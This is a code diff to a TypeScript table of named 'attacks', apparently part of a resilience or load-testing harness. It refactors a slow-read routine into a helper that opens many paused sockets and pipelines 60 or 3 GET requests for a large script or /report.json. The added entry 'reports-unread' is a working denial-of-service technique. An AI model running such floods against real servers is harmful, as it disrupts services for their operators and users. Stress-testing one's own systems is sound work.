@@ -259,20 +259,9 @@ export const attacks: Readonly<Record<string, Attack>> = {
         .catch(() => null);
     }),
 
-  "pages-unread": async ({ url, untilMs }) => {
-    const { hostname, port } = new URL(url);
-    const path = await scriptOf(url);
-    // Many times in one breath: each answer is an open file, and what has been read of it.
-    const breath = `GET ${path} HTTP/1.1\r\nhost: x\r\n\r\n`.repeat(60);
-    await repeatedly(300, untilMs, async () => {
-      const socket = connect(Number(port), hostname).pause();
-      socket.on("error", () => undefined);
-      const ended = new Promise<void>((done) => socket.once("close", () => done()));
-      socket.write(breath);
-      await Promise.race([ended, pause(untilMs - performance.now())]);
-      socket.destroy();
-    });
-  },
+  "pages-unread": async ({ url, untilMs }) => readsNothing(url, await scriptOf(url), untilMs),
+
+  "reports-unread": ({ url, untilMs }) => readsNothing(url, "/report.json", untilMs),
 
   "bent-figures": flood(40, 3, (number) =>
     number % 2 === 0
@@ -282,6 +271,21 @@ export const attacks: Readonly<Record<string, Attack>> = {
 
   cents: ({ url, untilMs }) => payCents(url, untilMs),
 };
+
+/** Many times in one breath: each answer is an open file, or a report, and what has been read of it. */
+function readsNothing(url: string, path: string, untilMs: number): Promise<void> {
+  const { hostname, port } = new URL(url);
+  const ask = `GET ${path} HTTP/1.1\r\nhost: x\r\n\r\n`;
+  return repeatedly(300, untilMs, async (number) => {
+    const socket = connect(Number(port), hostname).pause();
+    socket.on("error", () => undefined);
+    const ended = new Promise<void>((done) => socket.once("close", () => done()));
+    // Whoever asks too often is answered nothing.
+    socket.write(ask.repeat(number % 2 === 0 ? 60 : 3));
+    await Promise.race([ended, pause(untilMs - performance.now())]);
+    socket.destroy();
+  });
+}
 
 /** Of the phones' page: its largest file. */
 async function scriptOf(url: string): Promise<string> {
